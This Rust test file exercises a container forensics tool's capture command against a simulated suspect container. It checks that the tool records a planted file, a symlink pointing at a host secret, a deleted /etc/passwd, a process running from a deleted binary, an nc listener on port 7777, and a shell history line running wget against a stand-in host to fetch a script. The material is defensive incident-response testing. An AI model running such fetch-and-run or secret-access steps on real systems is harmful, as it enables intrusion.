//! `kforensic agent capture` against real containerd/runc containers (the real binary, run as root).

use crate::support::{self, agent::*};
use kforensic::evidence::stream::receive;
use kforensic::evidence::{ArtifactRecord, ArtifactSink, ArtifactSpec, EvidenceError, HashingWriter};
use std::collections::BTreeMap;
use std::io::Write;

/// Capture a live suspect into a directory and check every artifact the way a responder would.
#[test]
fn capture_of_a_suspect_container_shows_what_it_did() {
    let Some(env) = support::require("capture_of_a_suspect_container_shows_what_it_did", &["containerd", "images"]) else { return };
    let host_secret_dir = tempfile::tempdir().unwrap();
    let host_secret = host_secret_dir.path().join("host-secret");
    std::fs::write(&host_secret, "HOST-SECRET-9d1f").unwrap();
    let name = unique("kft-agent-suspect");
    let c = CtrContainer::run(
        env.var("KF_CONTAINERD_SOCK"),
        env.var("KF_BUSYBOX_IMAGE"),
        &name,
        &suspect_script(host_secret.to_str().unwrap()),
    );
    let pid = c.pid();
    wait_suspect(pid);

    // a pod log directory and a "checkpoint archive" on the host, read through the shim's root
    let logs = tempfile::tempdir().unwrap();
    let cdir = logs.path().join("shop_web-1_0f1e2d3c/app");
    std::fs::create_dir_all(&cdir).unwrap();
    std::fs::write(cdir.join("0.log"), "2026-11-25T10:00:00Z stdout F current line\n").unwrap();
    std::fs::write(cdir.join("0.log.20261125-100000"), "2026-11-25T09:00:00Z stdout F rotated line\n").unwrap();
    let ckpt = logs.path().join("checkpoint-web-1_shop-app-2026-11-25T10:00:00Z.tar");
    std::fs::write(&ckpt, b"not really a tar, but bytes to ship").unwrap();

    let out = tempfile::tempdir().unwrap();
    let id = format!("containerd://{name}");
    let o = support::kforensic(&[
        "agent",
        "capture",
        "--container",
        &id,
        "--pod-namespace",
        "shop",
        "--pod-name",
        "web-1",
        "--pod-uid",
        "0f1e2d3c",
        "--container-name",
        "app",
        "--pod-log-dir",
        logs.path().to_str().unwrap(),
        "--checkpoint-archive",
        ckpt.to_str().unwrap(),
        "--kubelet-checkpoint-dir",
        logs.path().to_str().unwrap(),
        "--out",
        out.path().to_str().unwrap(),
    ]);
    let stderr = support::stderr(&o);
    assert_eq!(o.status.code(), Some(0), "capture failed:\n{stderr}");
    // progress: JSON lines naming artifacts and bytes
    let events: Vec<serde_json::Value> = stderr.lines().filter_map(|l| serde_json::from_str(l).ok()).collect();
    assert!(
        events.iter().any(|e| e["event"] == "done"
            && e["artifact"].as_str().is_some_and(|a| a.ends_with("rootfs.tar.zst"))
            && e["bytes"].as_u64() > Some(1000)),
        "{stderr}"
    );

    let idx = check_index(out.path());
    assert_eq!(idx["complete"], true, "{idx}");
    let dir = out.path().join("pods/shop/web-1/app");

    // inspect: runtime view (OCI config from the bundle, runc state) and /proc view of init
    let inspect = json(&dir.join("inspect.json"));
    assert_eq!(inspect["init"]["pid"], pid);
    assert_eq!(inspect["runtime"]["config"]["process"]["args"][0], "sh");
    assert_eq!(inspect["runtime"]["runc_state"]["init_process_pid"], pid);
    assert!(inspect["init"]["namespaces"]["net"].as_u64().is_some());
    assert!(inspect["init"]["capabilities"]["CapEff"]["names"].as_array().unwrap().iter().any(|c| c == "CAP_CHOWN"));
    assert!(inspect["init"]["cgroup"].as_array().unwrap().iter().any(|l| l.as_str().unwrap().ends_with(&name)));
    let mount_points: Vec<String> =
        inspect["runtime"]["config"]["mounts"].as_array().unwrap().iter().map(|m| m["destination"].as_str().unwrap().to_string()).collect();

    // diff: exactly what the suspect changed (mount points runc creates in the upper layer aside)
    let diff = json(&dir.join("diff.json"));
    assert_eq!(diff["method"], "overlay upperdir");
    let got: Vec<(String, String)> = changes(&diff).into_iter().filter(|(_, p)| !mount_points.contains(p)).collect();
    let want: Vec<(String, String)> = [
        ("C", "/etc"),
        ("C", "/etc/group"),
        ("D", "/etc/passwd"),
        ("C", "/root"),
        ("A", "/root/.ash_history"),
        ("C", "/tmp"),
        ("A", "/tmp/evil"),
        ("A", "/tmp/new.txt"),
        ("A", "/tmp/ready"),
    ]
    .iter()
    .map(|(k, p)| (k.to_string(), p.to_string()))
    .collect();
    assert_eq!(got, want, "{diff}");
    let row = |p: &str| diff["changes"].as_array().unwrap().iter().find(|c| c["path"] == p).unwrap().clone();
    assert_eq!(row("/tmp/new.txt")["sha256"], sha256(b"planted-4242\n"));
    assert_eq!(row("/tmp/new.txt")["size"], 13);
    assert_eq!(row("/tmp/evil")["type"], "symlink");
    assert_eq!(row("/tmp/evil")["link_target"], host_secret.to_str().unwrap());
    assert_eq!(row("/etc/passwd")["type"], "whiteout");
    // one pass, one copy: the changed content is the export's, located by diff.json's rows;
    // the diff tar is rebuilt offline, each file checked against the row's SHA-256
    assert!(!dir.join("diff.tar.zst").exists(), "the changed content travels once");
    assert_eq!(diff["content"], "export");
    assert!(row("/tmp/new.txt")["tar_offset"].as_u64().is_some(), "{diff}");
    let rebuilt = out.path().join("diff.tar");
    let x = support::kforensic(&["-o", "json", "analyze", dir.to_str().unwrap(), "--extract-diff", "--out", rebuilt.to_str().unwrap()]);
    assert_eq!(x.status.code(), Some(0), "{}", support::stderr(&x));
    let xr: serde_json::Value = serde_json::from_slice(&x.stdout).unwrap();
    assert_eq!(xr["hashes_checked"], xr["files"], "{xr}");
    let d = tar_entries(std::fs::File::open(&rebuilt).unwrap());
    assert_eq!(d["tmp/new.txt"].1, b"planted-4242\n");
    assert!(d.contains_key("etc/.wh.passwd"), "{:?}", d.keys());
    assert!(d["etc/group"].1.ends_with(b"changed\n"));
    assert_eq!(row("/etc/group")["sha256"], sha256(&d["etc/group"].1));
    assert!(!d.keys().any(|k| k.contains("sleep")), "the deleted binary left no trace in the upper layer");

    // export: the merged root, symlinks as links, no host file, no /proc /sys /dev content
    let r = tar_zst_entries(&dir.join("rootfs.tar.zst"));
    assert_eq!(r["tmp/new.txt"].1, b"planted-4242\n");
    assert_eq!(r["etc/group"].1, d["etc/group"].1);
    assert!(!r.contains_key("etc/passwd"));
    assert_eq!(r["tmp/evil"].0, tar::EntryType::Symlink);
    assert_eq!(r["tmp/evil"].2.as_deref(), host_secret.to_str());
    assert_eq!(r["bin/sh"].0, tar::EntryType::Symlink);
    for (p, (_, data, _)) in &r {
        assert!(!String::from_utf8_lossy(data).contains("HOST-SECRET-9d1f"), "host file content in export at {p}");
        for pseudo in ["proc/", "sys/", "dev/"] {
            assert!(p == pseudo || !p.starts_with(pseudo), "{p} exported");
        }
    }
    let busybox = &r["bin/busybox"];
    assert_eq!(busybox.0, tar::EntryType::Regular);

    // volatile: the process running a deleted binary, the listening socket and who holds it
    let v = json(&dir.join("volatile.json"));
    let procs = v["processes"].as_array().unwrap();
    let ghost = procs.iter().find(|p| p["cmdline"][0] == "/tmp/sleep").unwrap_or_else(|| panic!("no /tmp/sleep process: {v}"));
    assert_eq!(ghost["exe_deleted"], true);
    assert_eq!(ghost["exe"], "/tmp/sleep (deleted)");
    assert_eq!(ghost["exe_sha256"], sha256(&busybox.1), "the deleted binary's bytes are hashed from /proc/<pid>/exe");
    let init = procs.iter().find(|p| p["pid"] == pid).unwrap();
    assert_eq!(init["exe_deleted"], false);
    assert_eq!(init["uid"], serde_json::json!([0, 0, 0, 0]));
    assert!(init["user"].is_null(), "the suspect deleted /etc/passwd: no name to give");
    let nc = procs.iter().find(|p| p["cmdline"][0] == "nc").unwrap();
    let sock = v["sockets"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["state"] == "LISTEN" && s["local"].as_str().is_some_and(|l| l.ends_with(":7777")))
        .unwrap_or_else(|| panic!("no listening socket on 7777: {}", v["sockets"]));
    assert_eq!(sock["pids"], serde_json::json!([nc["pid"]]));
    assert!(nc["fds"].as_array().unwrap().iter().any(|f| f["target"] == format!("socket:[{}]", sock["inode"])));

    // history, node logs (current and rotated), checkpoint archive
    assert_eq!(std::fs::read(dir.join("history/root/.ash_history")).unwrap(), b"wget http://example.invalid/x.sh\n");
    assert!(std::fs::read_to_string(dir.join("logs/node/0.log")).unwrap().contains("current line"));
    assert!(std::fs::read_to_string(dir.join("logs/node/0.log.20261125-100000")).unwrap().contains("rotated line"));
    assert_eq!(std::fs::read(dir.join("checkpoint.tar")).unwrap(), std::fs::read(&ckpt).unwrap());
}

/// An in-memory sink for decoding the stream in tests.
#[derive(Default)]
struct MemSink {
    files: BTreeMap<String, Vec<u8>>,
    errors: Vec<(Option<String>, String)>,
}

impl ArtifactSink for MemSink {
    fn put(
        &mut self,
        spec: &ArtifactSpec,
        write: &mut dyn FnMut(&mut dyn Write) -> std::io::Result<()>,
    ) -> Result<ArtifactRecord, EvidenceError> {
        let started_at = jiff::Timestamp::now();
        let mut w = HashingWriter::new(Vec::new());
        write(&mut w)?;
        let (v, bytes, sha256) = w.finish();
        self.files.insert(spec.path.clone(), v);
        Ok(ArtifactRecord { spec: spec.clone(), bytes, sha256, started_at, finished_at: jiff::Timestamp::now(), encryption: None })
    }
    fn error(&mut self, path: Option<&str>, message: &str) -> Result<(), EvidenceError> {
        self.errors.push((path.map(str::to_string), message.to_string()));
        Ok(())
    }
}

/// `--stream` as the CLI will read it through exec: decoded by `stream::receive`, re-hashed on
/// arrival; a missing container is an error record while the other is still captured (exit 3).
#[test]
fn streamed_capture_round_trips_and_reports_a_missing_container() {
    let Some(env) = support::require("streamed_capture_round_trips_and_reports_a_missing_container", &["containerd", "images"]) else {
        return;
    };
    let name = unique("kft-agent-stream");
    let c = CtrContainer::run(env.var("KF_CONTAINERD_SOCK"), env.var("KF_BUSYBOX_IMAGE"), &name, &suspect_script("/nonexistent"));
    wait_suspect(c.pid());
    let missing = "containerd://kft-agent-no-such-container-7f3a";
    let o = support::kforensic(&[
        "agent",
        "capture",
        "--stream",
        "--steps",
        "inspect,diff,volatile",
        "--container",
        &format!("containerd://{name}"),
        "--container",
        missing,
    ]);
    assert_eq!(o.status.code(), Some(3), "partial evidence expected:\n{}", support::stderr(&o));
    let mut sink = MemSink::default();
    let rep = receive(&mut &o.stdout[..], &mut sink).expect("a well-formed, complete stream");
    assert!(!rep.complete());
    let prefix = format!("containers/containerd-{name}");
    let names: Vec<&String> = sink.files.keys().collect();
    assert_eq!(
        names,
        vec![
            &format!("{prefix}/diff.json"),
            &format!("{prefix}/diff.tar.zst"),
            &format!("{prefix}/inspect.json"),
            &format!("{prefix}/volatile.json")
        ]
    );
    for a in &rep.artifacts {
        assert_eq!(a.sha256, sha256(&sink.files[&a.spec.path]));
        assert_eq!(a.spec.container.as_deref(), Some(format!("containerd://{name}").as_str()));
    }
    assert_eq!(rep.errors.len(), 1, "{:?}", rep.errors);
    assert!(
        rep.errors[0].message.contains("kft-agent-no-such-container-7f3a") && rep.errors[0].message.contains("not found"),
        "{:?}",
        rep.errors
    );
    let v: serde_json::Value = serde_json::from_slice(&sink.files[&format!("{prefix}/volatile.json")]).unwrap();
    assert!(v["processes"].as_array().unwrap().iter().any(|p| p["exe_deleted"] == true));

    // the same stream cut short is never taken for complete
    let cut = &o.stdout[..o.stdout.len() - 3];
    assert!(receive(&mut &cut[..], &mut MemSink::default()).is_err());
}

#[test]
fn bad_container_ids_are_usage_errors() {
    let o = support::kforensic(&["agent", "capture", "--container", "rkt://abc", "--out", "/nonexistent-dir-never-created"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(support::stderr(&o).contains("unknown container runtime 'rkt'"), "{}", support::stderr(&o));
    assert!(!std::path::Path::new("/nonexistent-dir-never-created").exists());
}
